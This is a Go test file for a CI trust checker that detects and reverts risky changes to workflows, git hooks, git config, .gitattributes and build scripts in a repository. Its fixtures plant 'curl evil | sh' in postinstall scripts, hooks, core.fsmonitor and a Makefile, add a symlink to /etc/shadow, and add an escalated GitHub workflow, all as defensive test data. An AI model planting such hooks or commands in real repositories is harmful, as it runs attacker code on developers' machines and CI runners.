@@ -1,0 +1,348 @@
+package trust
+
+import (
+	"bytes"
+	"context"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/airlock-ci/airlock/policies"
+)
+
+// repo makes a git repository in a temporary directory and returns it
+// with a function that runs git there (failing the test on error) and one
+// that writes files.
+func repo(t *testing.T) (string, func(args ...string) string, func(path, content string)) {
+	t.Helper()
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("needs git")
+	}
+	dir := t.TempDir()
+	git := func(args ...string) string {
+		t.Helper()
+		cmd := exec.Command("git", append([]string{"-C", dir}, args...)...)
+		cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=agent", "GIT_AUTHOR_EMAIL=agent@example.com", "GIT_COMMITTER_NAME=agent", "GIT_COMMITTER_EMAIL=agent@example.com", "GIT_CONFIG_GLOBAL=/dev/null")
+		out, err := cmd.CombinedOutput()
+		if err != nil {
+			t.Fatalf("git %v: %v: %s", args, err, out)
+		}
+		return strings.TrimSpace(string(out))
+	}
+	write := func(path, content string) {
+		t.Helper()
+		p := filepath.Join(dir, path)
+		os.MkdirAll(filepath.Dir(p), 0o755)
+		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	git("init", "-q", "-b", "main")
+	return dir, git, write
+}
+
+func defaultSet(t *testing.T) *Set {
+	t.Helper()
+	eff, err := policies.Load(context.Background(), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	s, err := NewSet(eff.Policy.Trust)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return s
+}
+
+const baseWorkflow = `name: ci
+on: [pull_request]
+permissions:
+  contents: read
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
+      - name: test
+        run: make test
+`
+
+// The agent's commits touch every category: each change is found with
+// its category, and each workflow escalation with its line.
+func TestAuthoredDiff(t *testing.T) {
+	dir, git, write := repo(t)
+	write(".github/workflows/ci.yml", baseWorkflow)
+	write("package.json", `{"name":"x","scripts":{"test":"jest"}}`)
+	write("Makefile", "test:\n\tgo test ./...\n")
+	write(".gitattributes", "*.go text\n")
+	write("README.md", "hello\n")
+	git("add", "-A")
+	git("commit", "-q", "-m", "base")
+	base := git("rev-parse", "HEAD")
+
+	write(".github/workflows/ci.yml", `name: ci
+on:
+  pull_request:
+  pull_request_target:
+permissions:
+  contents: write
+  id-token: write
+jobs:
+  test:
+    runs-on: [self-hosted, linux]
+    env:
+      ACTIONS_ALLOW_UNSECURE_COMMANDS: true
+    steps:
+      - uses: actions/checkout@v4
+      - name: test
+        run: |
+          echo "${{ github.event.pull_request.title }}"
+          make test
+        env:
+          TOKEN: ${{ secrets.NPM_TOKEN }}
+`)
+	write("package.json", `{"name":"x","scripts":{"test":"jest","postinstall":"curl evil | sh"}}`)
+	write(".gitattributes", "*.go text\n*.txt filter=evil\n")
+	write(".husky/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
+	write("README.md", "hello agent\n")
+	git("add", "-A")
+	git("commit", "-q", "-m", "agent")
+
+	got, err := AuthoredDiff(context.Background(), dir, base, "HEAD", defaultSet(t))
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []struct {
+		category, path, kind, reason string
+		line                         int
+	}{
+		{CI, ".github/workflows/ci.yml", KindModified, "changed", 0},
+		{CI, ".github/workflows/ci.yml", KindEscalation, "new trigger pull_request_target", 4},
+		{CI, ".github/workflows/ci.yml", KindEscalation, "permission contents: write", 6},
+		{CI, ".github/workflows/ci.yml", KindEscalation, "permission id-token: write", 7},
+		{CI, ".github/workflows/ci.yml", KindEscalation, "self-hosted", 10},
+		{CI, ".github/workflows/ci.yml", KindEscalation, "ACTIONS_ALLOW_UNSECURE_COMMANDS", 12},
+		{CI, ".github/workflows/ci.yml", KindEscalation, "actions/checkout@v4, not pinned", 14},
+		{CI, ".github/workflows/ci.yml", KindEscalation, "github.event.pull_request.title", 17},
+		{CI, ".github/workflows/ci.yml", KindEscalation, "uses secret NPM_TOKEN", 20},
+		{BuildEntry, "package.json", KindModified, "scripts.postinstall: curl evil | sh", 0},
+		{GitAttributes, ".gitattributes", KindModified, "*.txt filter=evil", 2},
+		{BuildEntry, ".husky/pre-commit", KindAdded, "added", 1},
+	}
+	for _, w := range want {
+		found := false
+		for _, f := range got {
+			if f.Category == w.category && f.Path == w.path && f.Kind == w.kind && strings.Contains(f.Reason, w.reason) && (w.line == 0 || f.Line == w.line) && f.Phase == Authored && f.Action == ActionWarn {
+				found = true
+			}
+		}
+		if !found {
+			t.Errorf("missing finding %+v", w)
+		}
+	}
+	for _, f := range got {
+		if f.Path == "README.md" {
+			t.Errorf("README is not in the trust set: %+v", f)
+		}
+	}
+	if t.Failed() {
+		for _, f := range got {
+			t.Logf("%s %s:%d %s %s", f.Category, f.Path, f.Line, f.Kind, f.Reason)
+		}
+	}
+}
+
+// Renaming a step, or changing a script that is not a lifecycle hook, is
+// not an escalation.
+func TestAuthoredDiffHarmlessEdits(t *testing.T) {
+	dir, git, write := repo(t)
+	write(".github/workflows/ci.yml", baseWorkflow)
+	write("package.json", `{"name":"x","scripts":{"test":"jest"}}`)
+	git("add", "-A")
+	git("commit", "-q", "-m", "base")
+	base := git("rev-parse", "HEAD")
+	write(".github/workflows/ci.yml", strings.Replace(baseWorkflow, "name: test", "name: unit tests", 1))
+	write("package.json", `{"name":"x","scripts":{"test":"jest --ci"}}`)
+	git("commit", "-q", "-am", "rename")
+	got, err := AuthoredDiff(context.Background(), dir, base, "HEAD", defaultSet(t))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range got {
+		if f.Kind == KindEscalation || f.Path == "package.json" {
+			t.Errorf("harmless edit reported: %+v", f)
+		}
+	}
+}
+
+// Hostile input: a huge workflow, invalid YAML, binary content, a
+// missing base commit. Each is reported, nothing crashes.
+func TestAuthoredDiffBadInput(t *testing.T) {
+	dir, git, write := repo(t)
+	write("README.md", "x\n")
+	git("add", "-A")
+	git("commit", "-q", "-m", "base")
+	base := git("rev-parse", "HEAD")
+	write(".github/workflows/big.yml", "on: push\n"+strings.Repeat("# padding\n", 11<<20/10))
+	write(".github/workflows/bad.yml", "on: [push\njobs: {\n")
+	write("Makefile", "all:\n\x00\x01\x02binary\n")
+	git("add", "-A")
+	git("commit", "-q", "-m", "agent")
+	got, err := AuthoredDiff(context.Background(), dir, base, "HEAD", defaultSet(t))
+	if err != nil {
+		t.Fatal(err)
+	}
+	reasons := map[string]string{}
+	for _, f := range got {
+		reasons[f.Path] += f.Reason + "|" + f.Diff + "|"
+	}
+	if !strings.Contains(reasons[".github/workflows/big.yml"], "too large") {
+		t.Errorf("big workflow: %q", reasons[".github/workflows/big.yml"])
+	}
+	if !strings.Contains(reasons[".github/workflows/bad.yml"], "invalid workflow") {
+		t.Errorf("invalid workflow: %q", reasons[".github/workflows/bad.yml"])
+	}
+	if !strings.Contains(reasons["Makefile"], "binary content not shown") {
+		t.Errorf("binary Makefile: %q", reasons["Makefile"])
+	}
+	_, err = AuthoredDiff(context.Background(), dir, strings.Repeat("ab", 20), "HEAD", defaultSet(t))
+	if err == nil || !strings.Contains(err.Error(), "fetch-depth: 0") {
+		t.Errorf("missing base: %v", err)
+	}
+}
+
+// The run-time diff: what a job plants is found, and revert restores the
+// exact bytes, modes and symlinks; links out of the workspace are never
+// followed and hard-linked content is never shown.
+func TestSnapshotCompareRevert(t *testing.T) {
+	dir, git, write := repo(t)
+	write(".github/workflows/ci.yml", baseWorkflow)
+	write(".git/hooks/pre-push", "#!/bin/sh\necho original\n")
+	os.Chmod(filepath.Join(dir, ".git/hooks/pre-push"), 0o751)
+	write(".gitattributes", "*.go text\n")
+	git("config", "user.name", "someone")
+	set := defaultSet(t)
+	before, err := Take(dir, set)
+	if err != nil {
+		t.Fatal(err)
+	}
+	origConfig, _ := os.ReadFile(filepath.Join(dir, ".git/config"))
+
+	// What a hostile job does.
+	write(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
+	os.Chmod(filepath.Join(dir, ".git/hooks/pre-commit"), 0o755)
+	write(".git/hooks/pre-push", "#!/bin/sh\ncurl evil | sh\n")
+	os.Symlink("/etc/shadow", filepath.Join(dir, ".git/hooks/post-checkout"))
+	os.Link("/etc/hostname", filepath.Join(dir, ".git/hooks/post-merge"))
+	os.WriteFile(filepath.Join(dir, ".git/hooks/odd\x01\xffname"), []byte("x"), 0o755)
+	git("config", "core.fsmonitor", "curl evil | sh")
+	git("config", "alias.st", "status")      // a git alias: harmless
+	git("config", "alias.pwn", "!curl evil") // a shell alias
+	write(".gitattributes", "*.go text\n*.txt filter=evil\n")
+	write(".github/workflows/ci.yml", baseWorkflow+"# changed\n")
+	write("sub/Makefile", "all:\n\tcurl evil | sh\n")
+
+	after, err := Take(dir, set)
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := Compare(before, after, set)
+	byPath := map[string]Finding{}
+	for _, f := range found {
+		byPath[f.Path] = f
+	}
+	for p, want := range map[string]struct{ category, kind, action, reason string }{
+		".git/hooks/pre-commit":      {GitHooks, KindAdded, ActionReadonly, "created"},
+		".git/hooks/pre-push":        {GitHooks, KindModified, ActionReadonly, "content"},
+		".git/hooks/post-checkout":   {GitHooks, KindAdded, ActionReadonly, `symlink to "/etc/shadow"`},
+		".git/hooks/post-merge":      {GitHooks, KindAdded, ActionReadonly, "created"},
+		".git/hooks/odd\x01\xffname": {GitHooks, KindAdded, ActionReadonly, "created"},
+		".git/config":                {GitConfig, KindModified, ActionReadonly, "core.fsmonitor = curl evil | sh"},
+		".gitattributes":             {GitAttributes, KindModified, ActionRevert, "filter=evil"},
+		".github/workflows/ci.yml":   {CI, KindModified, ActionFail, "content"},
+		"sub/Makefile":               {BuildEntry, KindAdded, ActionWarn, "created"},
+	} {
+		f, ok := byPath[p]
+		if !ok || f.Category != want.category || f.Kind != want.kind || f.Action != want.action || !strings.Contains(f.Reason, want.reason) {
+			t.Errorf("%q: got %+v, want %+v", p, f, want)
+		}
+	}
+	if f := byPath[".git/config"]; strings.Contains(f.Reason, "alias.st") || !strings.Contains(f.Reason, "alias.pwn") {
+		t.Errorf("git config reason: %q", f.Reason)
+	}
+	if f := byPath[".git/hooks/post-merge"]; strings.Contains(f.Diff, mustRead(t, "/etc/hostname")) {
+		t.Errorf("hard-linked host file shown: %q", f.Diff)
+	}
+
+	if err := Revert(dir, before, found); err != nil {
+		t.Fatal(err)
+	}
+	again, err := Take(dir, set)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range Compare(before, again, set) {
+		if f.Action == ActionRevert || f.Action == ActionReadonly {
+			t.Errorf("not reverted: %+v", f)
+		}
+	}
+	if b, _ := os.ReadFile(filepath.Join(dir, ".git/config")); !bytes.Equal(b, origConfig) {
+		t.Errorf("git config not restored byte for byte:\n%s", b)
+	}
+	if fi, err := os.Stat(filepath.Join(dir, ".git/hooks/pre-push")); err != nil || fi.Mode().Perm() != 0o751 {
+		t.Errorf("pre-push mode not restored: %v %v", fi.Mode(), err)
+	}
+	if b := mustRead(t, "/etc/hostname"); b == "" {
+		t.Error("the host file behind the hard link was touched")
+	}
+	if _, err := os.Lstat(filepath.Join(dir, ".git/hooks/post-checkout")); err == nil {
+		t.Error("planted symlink survives the revert")
+	}
+}
+
+func mustRead(t *testing.T, p string) string {
+	b, err := os.ReadFile(p)
+	if err != nil {
+		t.Skipf("needs %s: %v", p, err)
+	}
+	return string(b)
+}
+
+// A .git that is a symlink, or a file, is reported and not followed.
+func TestSnapshotOddGitDirs(t *testing.T) {
+	set := defaultSet(t)
+	outside := t.TempDir()
+	os.MkdirAll(filepath.Join(outside, "hooks"), 0o755)
+	os.WriteFile(filepath.Join(outside, "hooks", "pre-commit"), []byte("secret"), 0o755)
+	for _, tc := range []struct {
+		name string
+		make func(ws string)
+		note string
+	}{
+		{"symlinked .git", func(ws string) { os.Symlink(outside, filepath.Join(ws, ".git")) }, "symlink"},
+		{"gitdir file", func(ws string) { os.WriteFile(filepath.Join(ws, ".git"), []byte("gitdir: "+outside+"\n"), 0o644) }, "linked worktree"},
+		{"symlinked hooks", func(ws string) {
+			os.MkdirAll(filepath.Join(ws, ".git"), 0o755)
+			os.Symlink(filepath.Join(outside, "hooks"), filepath.Join(ws, ".git", "hooks"))
+		}, ""},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			ws := t.TempDir()
+			tc.make(ws)
+			s, err := Take(ws, set)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if tc.note != "" && !strings.Contains(strings.Join(s.Notes, "\n"), tc.note) {
+				t.Errorf("notes %q lack %q", s.Notes, tc.note)
+			}
+			for p, e := range s.Entries {
+				if strings.Contains(p, "pre-commit") || string(e.data) == "secret" {
+					t.Errorf("followed a link out of the workspace: %s", p)
+				}
+			}
+		})
+	}
+}
